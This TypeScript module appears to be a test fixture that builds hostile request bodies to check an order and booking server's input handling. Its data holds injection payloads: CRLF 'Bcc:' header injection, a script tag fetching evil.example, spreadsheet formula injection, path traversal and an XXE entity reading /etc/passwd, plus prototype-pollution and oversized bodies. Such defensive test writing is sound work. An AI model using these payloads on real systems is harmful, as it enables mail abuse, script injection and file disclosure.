/** Hundreds of bodies that no page of ours sends. */
import { limits } from '#core/text/limits.ts';
import { customerForm } from '#core/form/customerForm.ts';
import { bookingForm } from '#core/form/bookingForm.ts';
import { orderBodyLimitBytes } from '#server/calls/orderBody.ts';
import { bookingBody } from './bookingBody.ts';
import { orderBody, withValueAt } from './orderBody.ts';
import { samplePdf } from './samplePdf.ts';

export type HostileInput = {
  readonly call: 'order' | 'booking';
  readonly body: string;
  readonly headers?: Readonly<Record<string, string>>;
};

const spy = 'spy@evil.example';

/** Values for a form field. Some are valid text and must remain nothing but text. */
const fieldValues: readonly unknown[] = [
  `a\r\nBcc: ${spy}`,
  `a\nX-Injected: 1\n\nbody`,
  'a\0b',
  '\u202e\u2066evil\u2069\u200f',
  `=?utf-8?q?a=0d=0aBcc:_${spy}?=`,
  `"x" <${spy}>, ${spy}; ${spy}`,
  '../../../etc/passwd\\..\\con.txt',
  '<script>fetch("//evil.example")</script>\'"&amp;',
  '=HYPERLINK("http://evil.example","x")',
  '\ud800 half a character',
  '{email} {{7*7}} ${7*7} %s %n',
  'x'.repeat(limits.notesMaxLength + 1),
  7,
  null,
  ['a'],
  { toString: 'a' },
];

const addresses: readonly unknown[] = [
  `robin@example.org,${spy}`,
  `robin@example.org;${spy}`,
  `robin@example.org ${spy}`,
  `robin@example.org\r\nBcc: ${spy}`,
  `robin@example.org%0d%0aBcc:${spy}`,
  `Robin <${spy}>`,
  `<${spy}>`,
  `"a\\"@b" ${spy}`,
  `robin@example.org(${spy})`,
  `@relay.example:${spy}`,
  `${'a'.repeat(300)}@example.org`,
  'robin@[127.0.0.1]',
  'robin@example..org',
  'робин@example.org',
  'robin@localhost',
  '',
  7,
  null,
  [spy],
];

const wrongValues: readonly unknown[] = [
  null,
  -1,
  1.5,
  1e308,
  '1',
  true,
  [],
  {},
  [[[]]],
  '__proto__',
];

const numberPaths = [
  ['meta', 'subtotal'],
  ['meta', 'total'],
  ['meta', 'items', 0, 'qty'],
  ['meta', 'items', 0, 'price'],
  ['meta', 'items', 1, 'qty'],
  ['meta', 'addOns', 0, 'price'],
] as const;

const idPaths = [
  ['meta', 'items', 0, 'id'],
  ['meta', 'items', 1, 'pose'],
  ['meta', 'items', 0, 'pack', 'selections'],
  ['meta', 'items', 0, 'pack', 'components'],
  ['meta', 'items'],
  ['meta', 'addOns'],
  ['meta', 'customer'],
  ['meta'],
] as const;

export function hostileInputs(): readonly HostileInput[] {
  const order = orderBody();
  const orders = (bodies: readonly unknown[]) =>
    bodies.map((body): HostileInput => ({ call: 'order', body: JSON.stringify(body) }));
  const withValues = (path: readonly (string | number)[], values: readonly unknown[]) =>
    orders(values.map((value) => withValueAt(order, path, value)));
  return [
    ...customerForm.flatMap(({ name }) => withValues(['meta', 'customer', name], fieldValues)),
    ...withValues(['meta', 'customer', 'email'], addresses),
    ...withValues(['toEmail'], addresses),
    ...withValues(['customerEmail'], addresses),
    ...withValues(['filename'], fieldValues),
    ...numberPaths.flatMap((path) => withValues(path, wrongValues)),
    ...idPaths.flatMap((path) => withValues(path, wrongValues)),
    ...withValues(['pdfBase64'], brokenPdfs()),
    ...bookings(),
    ...rawBodies(),
    ...keys(JSON.stringify(order)),
  ];
}

function bookings(): readonly HostileInput[] {
  const rosters = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '"=1",2', '\uff1d1', 'a,"b\n=c'];
  const bodies = [
    ...bookingForm.flatMap(({ name }) =>
      fieldValues.map((value) => ({ ...bookingBody(), [name]: value })),
    ),
    ...addresses.map((contactEmail) => ({ ...bookingBody(), contactEmail })),
    ...rosters.map((rosterCsv) => bookingBody({ rosterCsv })),
    bookingBody({ rosterCsv: '"'.repeat(limits.rosterMaxLength) }),
    bookingBody({ rosterCsv: ','.repeat(limits.rosterMaxLength) }),
    bookingBody({ rosterCsv: '\n'.repeat(limits.rosterMaxLength) }),
  ];
  return bodies.map((body) => ({ call: 'booking', body: JSON.stringify(body) }));
}

function brokenPdfs(): readonly unknown[] {
  const whole = samplePdf().toString('base64');
  return [
    whole.slice(0, -1),
    whole.slice(0, whole.length / 2),
    `${whole}${whole}`,
    whole.replace('A', '\\u0041'),
    Buffer.from('<html>').toString('base64'),
    'AAAA'.repeat(1_000_000),
    '='.repeat(1_000_000),
    '\ud83d\ude00'.repeat(100_000),
    null,
    {},
  ];
}

function rawBodies(): readonly HostileInput[] {
  const most = orderBodyLimitBytes - 1;
  const texts = [
    '['.repeat(most),
    '{"a":'.repeat(most / 5),
    `{"pdfBase64":"${'A'.repeat(most - 20)}"}`,
    `{"pdfBase64":${'['.repeat(most - 20)}`,
    `{"pdfBase64":"","meta":${'['.repeat(limits.orderMetaLimitBytes - 100)}`,
    '"'.repeat(most),
    '\\'.repeat(most),
    '"pdfBase64":'.repeat(most / 12),
    ' '.repeat(most),
    '',
    'null',
    '{"__proto__":{"admin":true}}',
    '{"constructor":{"prototype":{"admin":true}}}',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  ];
  const small = texts.map((text) => text.slice(0, limits.bookingBodyLimitBytes));
  return [
    ...texts.map((body): HostileInput => ({ call: 'order', body })),
    ...small.map((body): HostileInput => ({ call: 'booking', body })),
  ];
}

function keys(body: string): readonly HostileInput[] {
  return ['', 'short', 'k'.repeat(129), 'with a space in it', '\u00fcmlaut-uml\u00e4ut'].map(
    (key) => ({
      call: 'order',
      body,
      headers: { 'Idempotency-Key': key },
    }),
  );
}
